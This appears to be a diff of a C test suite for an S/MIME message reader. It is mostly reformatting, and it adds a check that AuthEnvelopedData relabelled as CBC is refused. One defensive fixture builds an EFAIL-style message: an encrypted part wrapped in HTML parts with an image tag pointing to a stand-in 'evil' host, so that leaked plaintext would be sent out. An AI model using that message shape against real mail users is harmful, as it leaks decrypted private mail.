@@ -33,16 +33,18 @@ static struct fixture fx;
 static char pki[PATH_MAX + 8], crl[PATH_MAX + 8];
 
 static const char entity[] =
-	"Content-Type: text/plain; charset=utf-8\r\n"
-	"Content-Transfer-Encoding: 7bit\r\n"
-	"\r\n"
-	"Hello Bob,\r\n"
-	"\r\n"
-	"this message is signed and/or encrypted. It has a line that starts\r\n"
-	"--with dashes and one with trailing spaces   \r\n"
-	"From the top of a line.\r\n";
+    "Content-Type: text/plain; charset=utf-8\r\n"
+    "Content-Transfer-Encoding: 7bit\r\n"
+    "\r\n"
+    "Hello Bob,\r\n"
+    "\r\n"
+    "this message is signed and/or encrypted. It has a line that starts\r\n"
+    "--with dashes and one with trailing spaces   \r\n"
+    "From the top of a line.\r\n";
 
 /* Runs a shell command built from fmt; returns 0 if it exited 0. */
+static int sh(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
+
 static int
 sh(const char *fmt, ...)
 {
@@ -131,7 +133,8 @@ expected_output(const char *msg_path, const char *inner)
 	k = (size_t)(mv - m);
 	e = malloc(k + 32 + strlen(inner));
 	memcpy(e, m, k);
-	strcpy(e + k, strchr(mv, '\n')[-1] == '\r' ? "MIME-Version: 1.0\r\n" : "MIME-Version: 1.0\n");
+	strcpy(e + k,
+	       strchr(mv, '\n')[-1] == '\r' ? "MIME-Version: 1.0\r\n" : "MIME-Version: 1.0\n");
 	strcat(e, inner);
 	free(m);
 	return e;
@@ -148,11 +151,11 @@ check_read(struct rt *t, const char *msg, const char *what, int want_r, enum cs_
 
 	r = rt_read_file(t, msg, &out, &n, rep);
 	CHECK_EQ_INT(r, want_r, "%s: result %s", what, cs_error_name(r));
-	CHECK(rep->verdict == want_v, "%s: verdict %s (want %s)", what, rt_verdict_name(rep->verdict),
-	      rt_verdict_name(want_v));
+	CHECK(rep->verdict == want_v, "%s: verdict %s (want %s)", what,
+	      rt_verdict_name(rep->verdict), rt_verdict_name(want_v));
 	if (want_out != NULL) {
-		CHECK(n == strlen(want_out) && memcmp(out, want_out, n) == 0, "%s: plaintext is the original",
-		      what);
+		CHECK(n == strlen(want_out) && memcmp(out, want_out, n) == 0,
+		      "%s: plaintext is the original", what);
 		if (n != strlen(want_out) || memcmp(out, want_out, n) != 0)
 			printf("# got %zu bytes:\n# %.300s\n", n, out);
 	}
@@ -172,9 +175,9 @@ test_signed(void)
 		const char *extra;
 		const char *digest;
 	} signers[] = {
-		{ "RSA", "alice-sign-rsa", "", "SHA256" },
-		{ "RSA-PSS", "alice-sign-rsa", "-keyopt rsa_padding_mode:pss", "SHA256" },
-		{ "ECDSA", "alice-sign-ec", "-md sha384", "SHA384" },
+	    {"RSA", "alice-sign-rsa", "", "SHA256"},
+	    {"RSA-PSS", "alice-sign-rsa", "-keyopt rsa_padding_mode:pss", "SHA256"},
+	    {"ECDSA", "alice-sign-ec", "-md sha384", "SHA384"},
 	};
 	struct cs_read_report rep;
 	struct rt t;
@@ -186,13 +189,14 @@ test_signed(void)
 	write_file(W("entity.txt"), entity, strlen(entity));
 	for (i = 0; i < sizeof(signers) / sizeof(signers[0]); i++) {
 		for (opaque = 0; opaque < 2; opaque++) {
-			snprintf(what, sizeof(what), "signed %s %s", opaque ? "opaque" : "multipart",
-			         signers[i].name);
+			snprintf(what, sizeof(what), "signed %s %s",
+			         opaque ? "opaque" : "multipart", signers[i].name);
 			if (sh("openssl cms -sign %s -in '%s' -signer '%s/%s.cert.pem' -inkey "
 			       "'%s/%s.key.pem' -certfile '%s/inter-ca.cert.pem' %s -from "
 			       "alice@example.org -to bob@example.org -subject 'Signed' -out '%s'",
-			       opaque ? "-nodetach" : "", W("entity.txt"), pki, signers[i].signer, pki,
-			       signers[i].signer, pki, signers[i].extra, W("signed.eml")) != 0) {
+			       opaque ? "-nodetach" : "", W("entity.txt"), pki, signers[i].signer,
+			       pki, signers[i].signer, pki, signers[i].extra,
+			       W("signed.eml")) != 0) {
 				CHECK(0, "%s: openssl cms -sign", what);
 				continue;
 			}
@@ -204,26 +208,29 @@ test_signed(void)
 			CHECK(strcmp(rep.layers[0].signer_email, "alice@example.org") == 0 &&
 			          rep.layers[0].email_matches,
 			      "%s: signer alice@example.org matches From", what);
-			CHECK(strcmp(rep.layers[0].digest, signers[i].digest) == 0, "%s: digest %s", what,
-			      rep.layers[0].digest);
+			CHECK(strcmp(rep.layers[0].digest, signers[i].digest) == 0, "%s: digest %s",
+			      what, rep.layers[0].digest);
 			CHECK(rep.layers[0].revocation == CS_REVOCATION_GOOD &&
 			          rep.layers[0].reasons == 0 && !rep.layers[0].weak,
 			      "%s: revocation good, no reasons", what);
-			CHECK(rep.layers[0].signing_time > 1600000000 && rep.layers[0].signer_cert != NULL &&
+			CHECK(rep.layers[0].signing_time > 1600000000 &&
+			          rep.layers[0].signer_cert != NULL &&
 			          sk_X509_num(rep.layers[0].chain) == 3,
 			      "%s: signing time, signer and a chain of 3", what);
-			CHECK(strcmp(rep.from, "alice@example.org") == 0, "%s: From reported", what);
+			CHECK(strcmp(rep.from, "alice@example.org") == 0, "%s: From reported",
+			      what);
 			cs_read_report_clear(&rep);
 			free(want);
 		}
 	}
 	/* A store whose line ends became LF: the canonical form is what was signed. */
 	if (sh("openssl cms -sign -in '%s' -signer '%s/alice-sign-rsa.cert.pem' -inkey "
-	       "'%s/alice-sign-rsa.key.pem' -certfile '%s/inter-ca.cert.pem' -from alice@example.org "
+	       "'%s/alice-sign-rsa.key.pem' -certfile '%s/inter-ca.cert.pem' -from "
+	       "alice@example.org "
 	       "-subject LF -out '%s' && tr -d '\\r' < '%s' > '%s'",
 	       W("entity.txt"), pki, pki, pki, W("crlf.eml"), W("crlf.eml"), W("lf.eml")) == 0) {
-		check_read(&t, W("lf.eml"), "multipart/signed stored with LF", 0, CS_VERDICT_VALID, NULL,
-		           &rep);
+		check_read(&t, W("lf.eml"), "multipart/signed stored with LF", 0, CS_VERDICT_VALID,
+		           NULL, &rep);
 		cs_read_report_clear(&rep);
 	}
 	rt_free(&t);
@@ -242,17 +249,18 @@ test_encrypted(void)
 		const char *want_cipher;
 		int auth;
 	} cases[] = {
-		{ "CBC to RSA v1.5", "-aes-256-cbc", "bob-rsa", "", "AES-256-CBC", 0 },
-		{ "CBC to RSA OAEP", "-aes-128-cbc", "bob-rsa", "-keyopt rsa_padding_mode:oaep",
-		  "AES-128-CBC", 0 },
-		{ "CBC to EC", "-aes-256-cbc", "bob-ec", "", "AES-256-CBC", 0 },
-		{ "GCM to RSA v1.5", "-aes-256-gcm", "bob-rsa", "", "AES-256-GCM", 1 },
-		{ "GCM to RSA OAEP", "-aes-256-gcm", "bob-rsa",
-		  "-keyopt rsa_padding_mode:oaep -keyopt rsa_oaep_md:sha256", "AES-256-GCM", 1 },
-		{ "GCM to EC", "-aes-128-gcm", "bob-ec", "", "AES-128-GCM", 1 },
-		{ "3DES to RSA", "-des3", "bob-rsa", "", "DES-EDE3-CBC", 0 },
-		/* RC2 needs OpenSSL's legacy provider, on both sides. */
-		{ "RC2 to RSA", "-provider legacy -provider default -rc2-128", "bob-rsa", "", "RC2-CBC", 0 },
+	    {"CBC to RSA v1.5", "-aes-256-cbc", "bob-rsa", "", "AES-256-CBC", 0},
+	    {"CBC to RSA OAEP", "-aes-128-cbc", "bob-rsa", "-keyopt rsa_padding_mode:oaep",
+	     "AES-128-CBC", 0},
+	    {"CBC to EC", "-aes-256-cbc", "bob-ec", "", "AES-256-CBC", 0},
+	    {"GCM to RSA v1.5", "-aes-256-gcm", "bob-rsa", "", "AES-256-GCM", 1},
+	    {"GCM to RSA OAEP", "-aes-256-gcm", "bob-rsa",
+	     "-keyopt rsa_padding_mode:oaep -keyopt rsa_oaep_md:sha256", "AES-256-GCM", 1},
+	    {"GCM to EC", "-aes-128-gcm", "bob-ec", "", "AES-128-GCM", 1},
+	    {"3DES to RSA", "-des3", "bob-rsa", "", "DES-EDE3-CBC", 0},
+	    /* RC2 needs OpenSSL's legacy provider, on both sides. */
+	    {"RC2 to RSA", "-provider legacy -provider default -rc2-128", "bob-rsa", "", "RC2-CBC",
+	     0},
 	};
 	struct cs_read_report rep;
 	struct rt t;
@@ -260,12 +268,13 @@ test_encrypted(void)
 	size_t i;
 
 	ctx_init(&t, 0);
-	add_id(&t, "alice-enc-rsa");     /* named by no message: its key is never asked for */
+	add_id(&t, "alice-enc-rsa"); /* named by no message: its key is never asked for */
 	add_id(&t, "bob-rsa");
 	add_id(&t, "bob-ec");
 	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
 		snprintf(what, sizeof(what), "encrypted %s", cases[i].name);
-		if (sh("openssl cms -encrypt %s -in '%s' -from alice@example.org -to bob@example.org "
+		if (sh("openssl cms -encrypt %s -in '%s' -from alice@example.org -to "
+		       "bob@example.org "
 		       "-subject Secret -out '%s' -recip '%s/%s.cert.pem' %s",
 		       cases[i].cipher, W("entity.txt"), W("enc.eml"), pki, cases[i].recip,
 		       cases[i].keyopt) != 0) {
@@ -278,7 +287,8 @@ test_encrypted(void)
 		          strcmp(rep.layers[0].cipher, cases[i].want_cipher) == 0 &&
 		          rep.layers[0].integrity_protected == cases[i].auth,
 		      "%s: one encrypted layer, %s", what, rep.layers[0].cipher);
-		CHECK_EQ_INT(rep.layers[0].identity_index, strcmp(cases[i].recip, "bob-rsa") == 0 ? 1 : 2,
+		CHECK_EQ_INT(rep.layers[0].identity_index,
+		             strcmp(cases[i].recip, "bob-rsa") == 0 ? 1 : 2,
 		             "%s: decrypted by the right identity", what);
 		CHECK(rep.layers[0].weak == (strstr(cases[i].name, "3DES") != NULL ||
 		                             strstr(cases[i].name, "RC2") != NULL),
@@ -288,10 +298,11 @@ test_encrypted(void)
 	}
 	CHECK_EQ_INT(t.get_key_calls[0], 0, "an identity no RecipientInfo names is never asked");
 	{
-		/* RC2 came from a library context of its own: MD4 is still unknown to the default one. */
+		/* RC2 came from a library context of its own: the default one has no MD4. */
 		EVP_MD *md4 = EVP_MD_fetch(NULL, "MD4", NULL);
 
-		CHECK(md4 == NULL, "reading RC2 did not load the legacy provider into the default context");
+		CHECK(md4 == NULL,
+		      "reading RC2 did not load the legacy provider into the default context");
 		EVP_MD_free(md4);
 		ERR_clear_error();
 	}
@@ -310,24 +321,29 @@ test_nested(void)
 	add_id(&t, "bob-rsa");
 	if (sh("openssl cms -sign -in '%s' -signer '%s/alice-sign-ec.cert.pem' -inkey "
 	       "'%s/alice-sign-ec.key.pem' -certfile '%s/inter-ca.cert.pem' -out '%s' && "
-	       "openssl cms -encrypt -aes-256-gcm -in '%s' -from alice@example.org -to bob@example.org "
+	       "openssl cms -encrypt -aes-256-gcm -in '%s' -from alice@example.org -to "
+	       "bob@example.org "
 	       "-subject 'Sign+encrypt' -out '%s' '%s/bob-rsa.cert.pem'",
 	       W("entity.txt"), pki, pki, pki, W("s.part"), W("s.part"), W("se.eml"), pki) == 0) {
 		want = expected_output(W("se.eml"), entity);
-		check_read(&t, W("se.eml"), "signed then encrypted", 0, CS_VERDICT_VALID, want, &rep);
+		check_read(&t, W("se.eml"), "signed then encrypted", 0, CS_VERDICT_VALID, want,
+		           &rep);
 		CHECK(rep.n_layers == 2 && rep.layers[0].kind == CS_LAYER_ENCRYPTED &&
-		          rep.layers[1].kind == CS_LAYER_SIGNED && rep.layers[1].verdict == CS_VERDICT_VALID,
+		          rep.layers[1].kind == CS_LAYER_SIGNED &&
+		          rep.layers[1].verdict == CS_VERDICT_VALID,
 		      "signed then encrypted: encrypted layer first, then a valid signed layer");
 		cs_read_report_clear(&rep);
 		free(want);
 	}
 	if (sh("openssl cms -encrypt -aes-256-cbc -in '%s' -out '%s' '%s/bob-rsa.cert.pem' && "
 	       "openssl cms -sign -nodetach -in '%s' -signer '%s/alice-sign-rsa.cert.pem' -inkey "
-	       "'%s/alice-sign-rsa.key.pem' -certfile '%s/inter-ca.cert.pem' -from alice@example.org "
+	       "'%s/alice-sign-rsa.key.pem' -certfile '%s/inter-ca.cert.pem' -from "
+	       "alice@example.org "
 	       "-to bob@example.org -subject 'Encrypt+sign' -out '%s'",
 	       W("entity.txt"), W("e.part"), pki, W("e.part"), pki, pki, pki, W("es.eml")) == 0) {
 		want = expected_output(W("es.eml"), entity);
-		check_read(&t, W("es.eml"), "encrypted then signed", 0, CS_VERDICT_VALID, want, &rep);
+		check_read(&t, W("es.eml"), "encrypted then signed", 0, CS_VERDICT_VALID, want,
+		           &rep);
 		CHECK(rep.n_layers == 2 && rep.layers[0].kind == CS_LAYER_SIGNED &&
 		          rep.layers[1].kind == CS_LAYER_ENCRYPTED,
 		      "encrypted then signed: signed layer first");
@@ -336,16 +352,19 @@ test_nested(void)
 	}
 	if (sh("openssl cms -sign -in '%s' -signer '%s/alice-sign-rsa.cert.pem' -inkey "
 	       "'%s/alice-sign-rsa.key.pem' -certfile '%s/inter-ca.cert.pem' -out '%s' && "
-	       "openssl cms -encrypt -aes-256-gcm -in '%s' -out '%s' '%s/bob-ec.cert.pem' '%s/bob-rsa.cert.pem' && "
+	       "openssl cms -encrypt -aes-256-gcm -in '%s' -out '%s' '%s/bob-ec.cert.pem' "
+	       "'%s/bob-rsa.cert.pem' && "
 	       "openssl cms -sign -in '%s' -signer '%s/alice-sign-ec.cert.pem' -inkey "
-	       "'%s/alice-sign-ec.key.pem' -certfile '%s/inter-ca.cert.pem' -from alice@example.org "
+	       "'%s/alice-sign-ec.key.pem' -certfile '%s/inter-ca.cert.pem' -from "
+	       "alice@example.org "
 	       "-to bob@example.org -subject 'Triple' -out '%s'",
 	       W("entity.txt"), pki, pki, pki, W("t1.part"), W("t1.part"), W("t2.part"), pki, pki,
 	       W("t2.part"), pki, pki, pki, W("triple.eml")) == 0) {
 		want = expected_output(W("triple.eml"), entity);
 		check_read(&t, W("triple.eml"), "triple-wrapped", 0, CS_VERDICT_VALID, want, &rep);
 		CHECK(rep.n_layers == 3 && rep.layers[0].kind == CS_LAYER_SIGNED &&
-		          rep.layers[1].kind == CS_LAYER_ENCRYPTED && rep.layers[2].kind == CS_LAYER_SIGNED,
+		          rep.layers[1].kind == CS_LAYER_ENCRYPTED &&
+		          rep.layers[2].kind == CS_LAYER_SIGNED,
 		      "triple-wrapped: signed, encrypted, signed");
 		cs_read_report_clear(&rep);
 		free(want);
@@ -375,30 +394,30 @@ test_verdicts(void)
 		const char *from;
 		int crls;
 		enum cs_verdict verdict;
-		unsigned reasons;       /* must be set */
+		unsigned reasons; /* must be set */
 		enum cs_revocation revocation;
 	} cases[] = {
-		{ "neg-expired", "expired@example.org", 1, CS_VERDICT_EXPIRED, CS_REASON_EXPIRED,
-		  CS_REVOCATION_GOOD },
-		{ "neg-notyet", "notyet@example.org", 1, CS_VERDICT_EXPIRED, CS_REASON_NOT_YET_VALID,
-		  CS_REVOCATION_GOOD },
-		{ "neg-revoked", "revoked@example.org", 1, CS_VERDICT_REVOKED, CS_REASON_REVOKED,
-		  CS_REVOCATION_REVOKED },
-		{ "neg-revoked", "revoked@example.org", 0, CS_VERDICT_VALID,
-		  CS_REASON_REVOCATION_UNKNOWN, CS_REVOCATION_UNKNOWN },
-		{ "neg-noeku", "noeku@example.org", 1, CS_VERDICT_UNTRUSTED, CS_REASON_EKU,
-		  CS_REVOCATION_GOOD },
-		{ "anyeku", "anyeku@example.org", 1, CS_VERDICT_VALID, 0, CS_REVOCATION_GOOD },
-		{ "neg-unknown-issuer", "unknown@example.org", 1, CS_VERDICT_UNTRUSTED,
-		  CS_REASON_UNTRUSTED_ROOT, CS_REVOCATION_UNKNOWN },
-		{ "neg-mismatch", "dave@example.org", 1, CS_VERDICT_MISMATCH, CS_REASON_ADDRESS_MISMATCH,
-		  CS_REVOCATION_GOOD },
-		{ "neg-rsa1024", "weak@example.org", 1, CS_VERDICT_VALID, CS_REASON_WEAK_KEY,
-		  CS_REVOCATION_GOOD },
-		{ "alice-sign-rsa", "Alice <alice@EXAMPLE.org>", 1, CS_VERDICT_VALID, 0,
-		  CS_REVOCATION_GOOD },
-		{ "alice-sign-rsa", "ALICE@example.org", 1, CS_VERDICT_MISMATCH,
-		  CS_REASON_ADDRESS_MISMATCH, CS_REVOCATION_GOOD },
+	    {"neg-expired", "expired@example.org", 1, CS_VERDICT_EXPIRED, CS_REASON_EXPIRED,
+	     CS_REVOCATION_GOOD},
+	    {"neg-notyet", "notyet@example.org", 1, CS_VERDICT_EXPIRED, CS_REASON_NOT_YET_VALID,
+	     CS_REVOCATION_GOOD},
+	    {"neg-revoked", "revoked@example.org", 1, CS_VERDICT_REVOKED, CS_REASON_REVOKED,
+	     CS_REVOCATION_REVOKED},
+	    {"neg-revoked", "revoked@example.org", 0, CS_VERDICT_VALID,
+	     CS_REASON_REVOCATION_UNKNOWN, CS_REVOCATION_UNKNOWN},
+	    {"neg-noeku", "noeku@example.org", 1, CS_VERDICT_UNTRUSTED, CS_REASON_EKU,
+	     CS_REVOCATION_GOOD},
+	    {"anyeku", "anyeku@example.org", 1, CS_VERDICT_VALID, 0, CS_REVOCATION_GOOD},
+	    {"neg-unknown-issuer", "unknown@example.org", 1, CS_VERDICT_UNTRUSTED,
+	     CS_REASON_UNTRUSTED_ROOT, CS_REVOCATION_UNKNOWN},
+	    {"neg-mismatch", "dave@example.org", 1, CS_VERDICT_MISMATCH, CS_REASON_ADDRESS_MISMATCH,
+	     CS_REVOCATION_GOOD},
+	    {"neg-rsa1024", "weak@example.org", 1, CS_VERDICT_VALID, CS_REASON_WEAK_KEY,
+	     CS_REVOCATION_GOOD},
+	    {"alice-sign-rsa", "Alice <alice@EXAMPLE.org>", 1, CS_VERDICT_VALID, 0,
+	     CS_REVOCATION_GOOD},
+	    {"alice-sign-rsa", "ALICE@example.org", 1, CS_VERDICT_MISMATCH,
+	     CS_REASON_ADDRESS_MISMATCH, CS_REVOCATION_GOOD},
 	};
 	struct cs_read_report rep;
 	struct rt t;
@@ -432,8 +451,10 @@ test_verdicts(void)
 			p[0] = 'J';
 		ctx_init(&t, 1);
 		write_file(W("tampered.eml"), msg, n);
-		check_read(&t, W("tampered.eml"), "tampered body", 0, CS_VERDICT_INVALID, NULL, &rep);
-		CHECK(rep.layers[0].reasons & CS_REASON_BAD_SIGNATURE, "tampered body: BAD_SIGNATURE");
+		check_read(&t, W("tampered.eml"), "tampered body", 0, CS_VERDICT_INVALID, NULL,
+		           &rep);
+		CHECK(rep.layers[0].reasons & CS_REASON_BAD_SIGNATURE,
+		      "tampered body: BAD_SIGNATURE");
 		cs_read_report_clear(&rep);
 		rt_free(&t);
 		free(msg);
@@ -514,21 +535,24 @@ test_unprotected_parts(void)
 	ctx_init(&t, 1);
 	add_id(&t, "bob-rsa");
 	if (sh("openssl cms -encrypt -aes-256-cbc -in '%s' -out '%s' '%s/bob-rsa.cert.pem'",
-	       W("entity.txt"), W("part.eml"), pki) != 0 || (enc = rt_slurp(W("part.eml"), &n)) == NULL)
+	       W("entity.txt"), W("part.eml"), pki) != 0 ||
+	    (enc = rt_slurp(W("part.eml"), &n)) == NULL)
 		return;
 	/* The direct-exfiltration shape: an encrypted part between two unprotected ones. */
 	msg = malloc(n + 1024);
-	mn = (size_t)sprintf(msg,
-	                     "From: alice@example.org\r\nTo: bob@example.org\r\nSubject: EFAIL\r\n"
-	                     "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"BB\"\r\n\r\n"
-	                     "--BB\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/\r\n--BB\r\n%s\r\n"
-	                     "--BB\r\nContent-Type: text/html\r\n\r\n\">\r\n--BB--\r\n",
-	                     enc);
+	mn = (size_t)sprintf(
+	    msg,
+	    "From: alice@example.org\r\nTo: bob@example.org\r\nSubject: EFAIL\r\n"
+	    "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"BB\"\r\n\r\n"
+	    "--BB\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/\r\n--BB\r\n%s\r\n"
+	    "--BB\r\nContent-Type: text/html\r\n\r\n\">\r\n--BB--\r\n",
+	    enc);
 	write_file(W("efail.eml"), msg, mn);
 	r = rt_read_file(&t, W("efail.eml"), &out, &on, &rep);
 	CHECK_EQ_INT(r, 0, "EFAIL shape: read");
 	CHECK(rep.verdict == CS_VERDICT_UNSIGNED && rep.n_layers == 0 && rep.unprotected_parts == 2,
-	      "EFAIL shape: not protected, 2 unprotected parts beside (got %d)", rep.unprotected_parts);
+	      "EFAIL shape: not protected, 2 unprotected parts beside (got %d)",
+	      rep.unprotected_parts);
 	CHECK(on == mn && memcmp(out, msg, mn) == 0 && t.get_key_calls[0] == 0,
 	      "EFAIL shape: copied as is, nothing decrypted");
 	free(out);
@@ -541,11 +565,12 @@ test_unprotected_parts(void)
 		char *body = strstr(enc, "Content-Type: multipart/signed");
 
 		msg = malloc(n + 1024);
-		mn = (size_t)sprintf(msg,
-		                     "From: alice@example.org\nSubject: list\nMIME-Version: 1.0\n"
-		                     "Content-Type: multipart/mixed; boundary=\"LL\"\n\n--LL\n%s\n--LL\n"
-		                     "Content-Type: text/plain\n\n-- \nlist footer\n--LL--\n",
-		                     body != NULL ? body : "");
+		mn = (size_t)sprintf(
+		    msg,
+		    "From: alice@example.org\nSubject: list\nMIME-Version: 1.0\n"
+		    "Content-Type: multipart/mixed; boundary=\"LL\"\n\n--LL\n%s\n--LL\n"
+		    "Content-Type: text/plain\n\n-- \nlist footer\n--LL--\n",
+		    body != NULL ? body : "");
 		write_file(W("list.eml"), msg, mn);
 		r = rt_read_file(&t, W("list.eml"), &out, &on, &rep);
 		CHECK(r == 0 && rep.verdict == CS_VERDICT_UNSIGNED && rep.n_layers == 0 &&
@@ -559,7 +584,8 @@ test_unprotected_parts(void)
 	/* A plain message: copied byte for byte. */
 	r = rt_read_mem(&t, "Subject: plain\n\nhello\n", 22, &out, &on, &rep);
 	CHECK(r == 0 && on == 22 && memcmp(out, "Subject: plain\n\nhello\n", 22) == 0 &&
-	          rep.verdict == CS_VERDICT_UNSIGNED && rep.n_layers == 0 && rep.unprotected_parts == 0,
+	          rep.verdict == CS_VERDICT_UNSIGNED && rep.n_layers == 0 &&
+	          rep.unprotected_parts == 0,
 	      "plain message copied, UNSIGNED");
 	free(out);
 	cs_read_report_clear(&rep);
@@ -584,8 +610,9 @@ read_bytes(struct rt *t, const void *p, size_t n, size_t *ret_out_len)
 static void
 test_bad_input(void)
 {
-	static const char hdr_bin[] = "From: a@example.org\r\nContent-Type: application/pkcs7-mime; "
-	                              "smime-type=signed-data\r\nContent-Transfer-Encoding: binary\r\n\r\n";
+	static const char hdr_bin[] =
+	    "From: a@example.org\r\nContent-Type: application/pkcs7-mime; "
+	    "smime-type=signed-data\r\nContent-Transfer-Encoding: binary\r\n\r\n";
 	struct rt t;
 	char *der, *msg, *p;
 	size_t n, k, on, hl = strlen(hdr_bin);
@@ -606,7 +633,8 @@ test_bad_input(void)
 			if (read_bytes(&t, msg, hl + k, &on) == 0)
 				bad++;
 		}
-		CHECK_EQ_INT(bad, 0, "signed-data truncated at each of %zu lengths: always an error", n);
+		CHECK_EQ_INT(bad, 0,
+		             "signed-data truncated at each of %zu lengths: always an error", n);
 		/* An oversized length: the outer SEQUENCE claims 2^56 bytes. */
 		memcpy(msg + hl, "\x30\x88\x01\x00\x00\x00\x00\x00\x00\x00", 10);
 		r = read_bytes(&t, msg, hl + n, &on);
@@ -620,10 +648,12 @@ test_bad_input(void)
 	}
 	/* Garbage base64. */
 	msg = "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n"
-	      "Content-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHA6CAMIACAQAx!!!!garbage$$\r\n";
+	      "Content-Transfer-Encoding: "
+	      "base64\r\n\r\nMIAGCSqGSIb3DQEHA6CAMIACAQAx!!!!garbage$$\r\n";
 	r = read_bytes(&t, msg, strlen(msg), &on);
 	CHECK_EQ_INT(r, CS_ERR_BAD_FORMAT, "garbage base64: CS_ERR_BAD_FORMAT");
-	msg = "Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\nMIA=x\r\n";
+	msg = "Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: "
+	      "base64\r\n\r\nMIA=x\r\n";
 	r = read_bytes(&t, msg, strlen(msg), &on);
 	CHECK_EQ_INT(r, CS_ERR_BAD_FORMAT, "data after base64 padding: CS_ERR_BAD_FORMAT");
 	/* A header field over the limit. */
@@ -642,23 +672,28 @@ test_bad_input(void)
 
 		msg = malloc(cap);
 		for (d = 0; d < 20; d++)
-			len += (size_t)snprintf(msg + len, cap - len,
-			                        "Content-Type: multipart/signed; protocol=\"application/pkcs7-"
-			                        "signature\"; boundary=\"b%d\"\r\n\r\n--b%d\r\n",
-			                        d, d);
-		len += (size_t)snprintf(msg + len, cap - len, "Content-Type: text/plain\r\n\r\nx\r\n");
+			len += (size_t)snprintf(
+			    msg + len, cap - len,
+			    "Content-Type: multipart/signed; protocol=\"application/pkcs7-"
+			    "signature\"; boundary=\"b%d\"\r\n\r\n--b%d\r\n",
+			    d, d);
+		len +=
+		    (size_t)snprintf(msg + len, cap - len, "Content-Type: text/plain\r\n\r\nx\r\n");
 		r = read_bytes(&t, msg, len, &on);
-		CHECK_EQ_INT(r, CS_ERR_TOO_LARGE, "multipart/signed nested 20 deep: CS_ERR_TOO_LARGE");
+		CHECK_EQ_INT(r, CS_ERR_TOO_LARGE,
+		             "multipart/signed nested 20 deep: CS_ERR_TOO_LARGE");
 		/* 5000 nested multipart/mixed: not protected, copied, scanned only so deep. */
 		free(msg);
 		cap = 5000 * 64 + 256;
 		msg = malloc(cap);
 		len = 0;
 		for (d = 0; d < 5000; d++)
-			len += (size_t)snprintf(msg + len, cap - len,
-			                        "Content-Type: multipart/mixed; boundary=\"m%d\"\r\n\r\n--m%d\r\n",
-			                        d, d);
-		len += (size_t)snprintf(msg + len, cap - len, "Content-Type: text/plain\r\n\r\nx\r\n");
+			len += (size_t)snprintf(
+			    msg + len, cap - len,
+			    "Content-Type: multipart/mixed; boundary=\"m%d\"\r\n\r\n--m%d\r\n", d,
+			    d);
+		len +=
+		    (size_t)snprintf(msg + len, cap - len, "Content-Type: text/plain\r\n\r\nx\r\n");
 		r = read_bytes(&t, msg, len, &on);
 		CHECK(r == 0 && on == len, "multipart/mixed nested 5000 deep: copied (%s)",
 		      cs_error_name(r));
@@ -666,7 +701,8 @@ test_bad_input(void)
 	}
 	/* GCM with a flipped tag byte, and with a flipped ciphertext byte. */
 	if (sh("openssl cms -encrypt -aes-256-gcm -in '%s' -outform DER -out '%s' "
-	       "'%s/bob-rsa.cert.pem'", W("entity.txt"), W("g.der"), pki) == 0 &&
+	       "'%s/bob-rsa.cert.pem'",
+	       W("entity.txt"), W("g.der"), pki) == 0 &&
 	    (der = rt_slurp(W("g.der"), &n)) != NULL) {
 		static const char hdr_env[] = "Content-Type: application/pkcs7-mime; "
 		                              "smime-type=authEnveloped-data\r\n"
@@ -678,7 +714,7 @@ test_bad_input(void)
 		memcpy(msg + eh, der, n);
 		CHECK_EQ_INT(read_bytes(&t, msg, eh + n, &on), 0, "GCM message reads");
 		CHECK(on > 0, "GCM message: plaintext written");
-		/* The tag is the last OCTET STRING: its last byte ends the DER (definite lengths). */
+		/* The tag is the last OCTET STRING: its last byte ends the (definite) DER. */
 		msg[eh + n - 1] ^= 0x01;
 		r = read_bytes(&t, msg, eh + n, &on);
 		CHECK_EQ_INT(r, CS_ERR_DECRYPT, "GCM flipped tag byte: CS_ERR_DECRYPT");
@@ -692,6 +728,18 @@ test_bad_input(void)
 		CHECK_EQ_INT(r, CS_ERR_DECRYPT, "GCM flipped ciphertext byte: CS_ERR_DECRYPT");
 		CHECK_EQ_INT(on, 0, "GCM flipped ciphertext byte: nothing written");
 		msg[eh + n - 18 - 40] ^= 0x80;
+		/* The same claiming AES-256-CBC: no tag, so no integrity: refused. */
+		if ((p = memmem(msg + eh, n, "\x06\x09\x60\x86\x48\x01\x65\x03\x04\x01\x2e", 11)) !=
+		    NULL) {
+			p[10] = 0x2a;
+			r = read_bytes(&t, msg, eh + n, &on);
+			CHECK(r == CS_ERR_DECRYPT && on == 0,
+			      "AuthEnvelopedData with a CBC algorithm: CS_ERR_DECRYPT, nothing "
+			      "written");
+			p[10] = 0x2e;
+		} else {
+			CHECK(0, "AES-256-GCM OID found in the message");
+		}
 		for (k = 0, bad = 0, wrote = 0; k < n; k += 7) {
 			if (read_bytes(&t, msg, eh + k, &on) == 0)
 				bad++;
